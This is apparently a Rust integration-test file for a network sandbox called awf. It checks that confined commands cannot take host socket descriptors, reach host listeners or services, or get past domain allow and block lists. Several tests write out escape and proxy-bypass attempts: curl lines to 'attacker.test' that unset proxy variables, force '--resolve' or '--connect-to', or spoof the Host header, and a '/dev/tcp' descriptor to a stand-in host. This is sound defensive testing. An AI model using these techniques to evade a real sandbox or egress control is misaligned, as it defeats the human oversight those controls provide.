//! What is around the command: other processes' sockets and descriptors, its own listeners, the policy's edges.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::net::UnixListener;
use std::process::Stdio;
use std::time::Duration;

use awf_tests::{Run, Scratch, awf, lab, unconfined};

use crate::probe::{PROBE, case, control, hold, with_probe};
use crate::wire::{PROXY, connect, get, hello, say};

/// A Python line that takes a connected socket from somebody listening at a path, and speaks through it.
fn take_descriptor(path: &str) -> String {
    format!(
        "import socket, array\n\
         s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect('{path}')\n\
         m = s.recvmsg(1, 64); f = array.array('i', m[1][0][2])[0]\n\
         c = socket.socket(fileno=f); c.send(b'x'); print('got it')\n"
    )
}

#[test]
fn a_host_socket_in_a_shared_directory_passes_no_descriptor() {
    // Both directories are shared with the host: /tmp always, the other because the user mounts it.
    let mounted = Scratch::new("shared");
    let token = format!("awf-escape-{}", std::process::id());
    for path in [format!("/tmp/{token}.sock"), format!("{}/{token}.sock", mounted.path().display())]
    {
        let giver = format!(
            "import socket, array, os\n\
             s = socket.socket(socket.AF_UNIX); s.bind('{path}'); os.chmod('{path}', 0o777); s.listen(4)\n\
             t = socket.create_connection(('203.0.113.66', 8080))\n\
             print('ready', flush=True)\n\
             while True:\n\
             \x20 c, _ = s.accept()\n\
             \x20 c.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [t.fileno()]))])\n"
        );
        let mut host = lab()
            .host_command("python3")
            .args(["-c", &giver])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut ready = [0; 6];
        host.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
        let line = format!("python3 -c \"{}\"", take_descriptor(&path));
        let control = unconfined(&line);
        let mount = format!("{0}:{0}:rw", mounted.path().display());
        let outcome = Run::allowing("example.com").option("--mount", &mount).run(&line);
        host.kill().unwrap();
        host.wait().unwrap();
        drop(std::fs::remove_file(&path));
        assert!(
            control.status.success(),
            "positive control: {}",
            String::from_utf8_lossy(&control.stderr)
        );
        let outcome = outcome.failed();
        assert!(!outcome.stdout.contains("got it"), "{outcome:#?}");
    }
}

#[test]
fn an_abstract_socket_of_the_host_is_in_another_world() {
    let name = format!("awf-escape-{}", std::process::id());
    let listener = lab().in_host(|| {
        use std::os::linux::net::SocketAddrExt as _;
        let address = std::os::unix::net::SocketAddr::from_abstract_name(&name)?;
        Ok(UnixListener::bind_addr(&address)?)
    });
    let _listener = listener.unwrap();
    let line =
        format!("python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}')\"");
    let control = unconfined(&line);
    assert!(
        control.status.success(),
        "positive control: {}",
        String::from_utf8_lossy(&control.stderr)
    );
    Run::allowing("example.com").run(&line).failed();
}

#[test]
fn descriptors_of_the_caller_do_not_reach_the_command() {
    let logs = Scratch::new("descriptors");
    let run = |program: &str| {
        let script = format!("exec 9<>/dev/tcp/203.0.113.66/8080; {program}");
        lab().host_command("/bin/bash").args(["-c", &script]).stdin(Stdio::null()).output().unwrap()
    };
    let inner = "ls -l /proc/self/fd; echo leaked >&9";
    let control = run(&format!("bash -c '{inner}'"));
    assert!(
        control.status.success(),
        "positive control: {}",
        String::from_utf8_lossy(&control.stderr)
    );
    let command = format!(
        "exec {} --allow-domains example.com --proxy-logs-dir {1}/logs --audit-dir {1}/audit -- '{inner}'",
        awf().display(),
        logs.path().display()
    );
    let confined = run(&command);
    let text = String::from_utf8_lossy(&confined.stdout).into_owned();
    assert!(!confined.status.success() && text.contains(" 0 -> "), "{confined:?}");
    assert!(!text.contains("socket:"), "the command holds a socket of its caller:\n{text}");
}

#[test]
fn nobody_outside_reaches_a_listener_of_the_command() {
    let line = "python3 -c \"
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 8099)); s.listen()
print('listening', flush=True)
s.settimeout(3)
try: print(s.accept()[1])
except TimeoutError: print('nobody')\"";
    let run = Run::allowing("example.com");
    let mut child = run.spawn(line);
    let mut said = [0; 10];
    child.stdout.as_mut().unwrap().read_exact(&mut said).unwrap();
    assert_eq!(&said, b"listening\n");
    let reaches = |addresses: &[&str]| {
        addresses.iter().any(|address| {
            let address: SocketAddr = format!("{address}:8099").parse().unwrap();
            TcpStream::connect_timeout(&address, Duration::from_millis(200)).is_ok()
        })
    };
    let host = lab()
        .in_host(|| Ok(reaches(&["127.0.0.1", "127.65.87.70", "172.30.0.20", "100.64.77.2"])))
        .unwrap();
    let output = child.wait_with_output().unwrap();
    let outcome = run.outcome(&output, Duration::ZERO);
    assert!(!host, "a listener inside was reached from the host");
    assert_eq!(outcome.stdout, "nobody\n", "{outcome:#?}");
    // Positive control: without awf the same listener is reached.
    let mut bare =
        lab().host_command("/bin/bash").args(["-c", line]).stdout(Stdio::piped()).spawn().unwrap();
    bare.stdout.as_mut().unwrap().read_exact(&mut said).unwrap();
    assert!(lab().in_host(|| Ok(reaches(&["100.64.77.2"]))).unwrap());
    bare.wait().unwrap();
}

#[test]
fn the_hosts_own_services_are_out_of_reach() {
    let listener = lab().in_host(|| Ok(std::net::TcpListener::bind("0.0.0.0:8097")?)).unwrap();
    let clear = lab().in_host(|| Ok(std::net::TcpListener::bind("0.0.0.0:443")?)).unwrap();
    let denied = ("deny", "deny-raw-ipv4");
    let cases = [
        case("own-port", "100.64.77.2:8097", say("x"), &["errno 111"], ("deny", "port")),
        case("own-443", "100.64.77.2:443", say(hello(None)), &["alert 49"], denied),
        case("own-proxy", PROXY, say(connect("100.64.77.2:443")), &["http 403"], denied),
        case("own-loop", PROXY, say(connect("127.0.0.1:443")), &["http 403"], denied),
        case("own-gateway", "100.64.77.1:443", say(hello(None)), &["alert 49"], denied),
    ];
    hold(Run::allowing("example.com"), &cases);
    // 127.0.0.1 inside is the sandbox's own.
    let local = case("own-inside", "127.0.0.1:8097", say("x"), &["errno 111"], denied);
    let (answers, _outcome) =
        crate::probe::talk(Run::allowing("example.com"), [&local.dialogue].into_iter());
    assert_eq!(answers["own-inside"].errno, libc::ECONNREFUSED);
    for one in [&listener, &clear] {
        one.set_nonblocking(true).unwrap();
        assert!(one.accept().is_err(), "a service of the host was reached");
    }
    crate::probe::reach_outside(cases.iter().take(2));
    assert!(listener.accept().is_ok() && clear.accept().is_ok(), "positive control");
    control(&cases);
}

#[test]
fn an_empty_list_denies_everything() {
    let denied = ("deny", "deny-default");
    let cases = [
        case("e-tls", "example.com:443", say(hello(Some("example.com"))), &["alert 49"], denied),
        case("e-http", "example.com:80", say(get("/", "example.com")), &["http 403"], denied),
        case("e-proxy", PROXY, say(connect("example.com:443")), &["http 403"], denied),
        case("e-get", PROXY, say(get("http://example.com/", "example.com")), &["http 403"], denied),
    ];
    hold(Run::new(), &cases);
    control(&cases);
}

#[test]
fn the_block_list_beats_the_allow_list() {
    let plain = ("deny", "deny-blocked-plain");
    let run =
        Run::allowing("example.com,*.example.com").option("--block-domains", "api.example.com");
    let cases = [
        case(
            "b-tls",
            "api.example.com:443",
            say(hello(Some("api.example.com"))),
            &["alert 49"],
            plain,
        ),
        case(
            "b-http",
            "api.example.com:80",
            say(get("/", "api.example.com")),
            &["http 403"],
            plain,
        ),
        case("b-proxy", PROXY, say(connect("api.example.com:443")), &["http 403"], plain),
        case("b-case", PROXY, say(connect("API.Example.COM.:443")), &["http 403"], plain),
        case(
            "b-other",
            "example.com:443",
            say(hello(Some("example.com"))),
            &["tls"],
            ("allow", "allow-both-plain"),
        ),
    ];
    hold(run, &cases);
    control(&cases);
}

#[test]
fn names_of_awf_and_bare_proxy_variables_change_nothing() {
    // Whoever unsets the variables, or names a proxy of its own, ends at the same doors.
    let lines = [
        "env -u https_proxy -u HTTPS_PROXY curl -sS -m 5 https://attacker.test/",
        "curl -sS -m 5 --noproxy '*' https://attacker.test/",
        "https_proxy=http://203.0.113.66:8080 curl -sS -m 5 https://attacker.test/",
        "https_proxy=socks5h://203.0.113.66:8080 curl -sS -m 5 https://attacker.test/",
        "curl -sS -m 5 -x http://127.65.87.70:2 https://attacker.test/",
        "curl -sS -m 5 --connect-to ::example.com: https://attacker.test/",
        "curl -sS -m 5 --resolve attacker.test:443:93.184.216.34 https://attacker.test/",
        "curl -sS -m 5 -H 'Host: example.com' https://attacker.test/",
    ];
    let line = lines.map(|line| format!("{line}; echo \" $?\"")).join("; ");
    let outcome = Run::allowing("example.com").run(&line).succeeded();
    let codes: Vec<_> =
        outcome.stdout.lines().filter_map(|line| line.trim().parse::<i32>().ok()).collect();
    assert_eq!(codes.len(), lines.len(), "{outcome:#?}");
    assert!(codes.iter().all(|code| *code != 0), "{codes:?}: {outcome:#?}");
    assert!(!outcome.stdout.contains("lab:"), "{}", outcome.stdout);
}

#[test]
fn a_child_that_outlives_the_command_has_no_way_out() {
    let sink = lab().sink();
    let mark = sink.mark().unwrap();
    let target = crate::target::Target::of(27);
    let line = format!(
        "(setsid sh -c 'sleep 1; {PROBE} fire {} udp-443 tcp-8080' >/dev/null 2>&1 &) ; sleep 0.2",
        target.salt
    );
    with_probe(Run::allowing("example.com")).run(&line).succeeded();
    std::thread::sleep(Duration::from_millis(1500));
    let packets = sink.traffic_since(&mark).unwrap();
    assert!(packets.iter().all(|packet| packet.dst != Some(target.v4.into())), "{packets:#?}");
    let output = unconfined(&format!("{PROBE} fire {} udp-443", target.salt));
    std::io::stdout().write_all(&output.stdout).unwrap();
    let packets = sink.traffic_since(&mark).unwrap();
    assert!(packets.iter().any(|packet| packet.dst == Some(target.v4.into())), "positive control");
}
